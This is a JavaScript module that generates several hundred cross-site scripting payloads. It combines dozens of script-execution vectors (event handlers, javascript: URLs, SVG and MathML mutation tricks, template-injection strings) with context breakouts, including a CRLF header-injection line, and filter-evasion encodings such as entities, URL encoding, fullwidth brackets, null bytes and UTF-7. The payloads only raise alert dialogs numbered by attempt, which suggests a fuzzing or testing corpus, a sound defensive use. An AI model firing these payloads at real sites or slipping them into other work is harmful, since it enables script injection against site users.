// Five hundred attempts to get out of where a value stands and to run: what is to run calls `alert` with the number of
// the attempt, so that a dialog names it.

/** Ways to run, by themselves. */
const RUN = [
  (n) => `<script>alert(${n})</script>`,
  (n) => `<script/x>alert(${n})</script >`,
  (n) => `<script src="data:text/javascript,alert(${n})"></script>`,
  (n) => `<img src=x onerror=alert(${n})>`,
  (n) => `<img/src=x/onerror=alert(${n})>`,
  (n) => `<image href=x onerror=alert(${n})>`,
  (n) => `<svg onload=alert(${n})>`,
  (n) => `<svg><script>alert(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><set attributeName=onmouseover to=alert(${n})>`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.alert(${n})</script>"></foreignObject></svg>`,
  (n) => `<svg><a xlink:href="javascript:alert(${n})"><text y=9>x</text></a></svg>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=alert(${n})>`,
  (n) => `<math href="javascript:alert(${n})">x</math>`,
  (n) => `<iframe src="javascript:alert(${n})"></iframe>`,
  (n) => `<iframe srcdoc="<img src=x onerror=parent.alert(${n})>"></iframe>`,
  (n) => `<object data="javascript:alert(${n})"></object>`,
  (n) => `<embed src="javascript:alert(${n})">`,
  (n) => `<a href="javascript:alert(${n})" autofocus>x</a>`,
  (n) => `<a href="java&#9;script:alert(${n})">x</a>`,
  (n) => `<body onload=alert(${n})>`,
  (n) => `<details open ontoggle=alert(${n})>x</details>`,
  (n) => `<input autofocus onfocus=alert(${n})>`,
  (n) => `<select autofocus onfocus=alert(${n})><option>x</select>`,
  (n) => `<video><source onerror=alert(${n})></video>`,
  (n) => `<audio src=x onerror=alert(${n})></audio>`,
  (n) => `<marquee onstart=alert(${n})>x</marquee>`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:alert(${n})">`,
  (n) => `<base href="javascript:/a/-alert(${n})//">`,
  (n) => `<link rel=stylesheet href="data:text/css,*{background:url(x)}" onload=alert(${n})>`,
  (n) => `<style>@import "data:text/css,x"</style><style onload=alert(${n})></style>`,
  (n) => `<form action="javascript:alert(${n})"><button>x</button></form>`,
  (n) => `<button formaction="javascript:alert(${n})" autofocus>x</button>`,
  (n) => `<template shadowrootmode=open><script>alert(${n})</script></template>`,
  (n) => `<x-y contenteditable onbeforeinput=alert(${n}) autofocus tabindex=1 onfocus=alert(${n})>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=alert(${n})>">`,
  (n) => `<!--><img src=x onerror=alert(${n})>-->`,
  (n) => `<![CDATA[><img src=x onerror=alert(${n})>]]>`,
  (n) => `<?xml-stylesheet href="javascript:alert(${n})"?>`,
  (n) => `<esi:include src="/v1"/><!--#exec cmd="alert(${n})" --><?php alert(${n}) ?>`,
  (n) => `javascript:alert(${n})`,
  (n) => `{{constructor.constructor('alert(${n})')()}}\${alert(${n})}<%= alert(${n}) %>`,
];

/** Ways out of a text, an attribute, a script, a style, a comment, a header, a string of JSON. */
const OUT = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `\`>${text}`,
  (text) => `" ${/on\w+=\S+/.exec(text)?.[0].replace('>', '') ?? 'onfocus=alert()'} autofocus x="`,
  (text) => `</title></style></textarea></script>${text}`,
  (text) => `]]>--></svg>${text}`,
  (text) => `"}]}${text}`,
  (text) => `--%>?>${text}`,
  (text) => `\\");alert();//${text}`,
  (text) => `\r\nContent-Type: text/html\r\n\r\n${text}`,
  (text) => `\u0000${text}\u202e\u200b`,
  (text) => `;}*{background:url(javascript:alert())}/*${text}`,
];

/** Disguises that something may take off again. */
const DISGUISE = [
  (text) => text,
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replace(/[<>"']/g, (letter) => `&#${letter.codePointAt(0)};`),
  (text) => text.replace(/[<>"']/g, (letter) => `&#x${letter.codePointAt(0).toString(16)}`),
  (text) => text.replace(/[<>"']/g, (letter) => `\\u${letter.codePointAt(0).toString(16).padStart(4, '0')}`),
  (text) => text.replace(/</g, '＜').replace(/>/g, '＞'),
  (text) => text.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
  (text) => text.replace(/</g, '<\u0000'),
  (text) => `+ADw-${text}`,
];

/** All of them, each once. */
export const PAYLOADS = (() => {
  const made = new Set();
  // Every way to run with every way out, and the disguises in turn.
  for (const [at, run] of RUN.entries()) {
    for (const [out, leave] of OUT.entries()) made.add(DISGUISE[(at + out) % DISGUISE.length](leave(run(made.size))));
  }
  return [...made];
})();
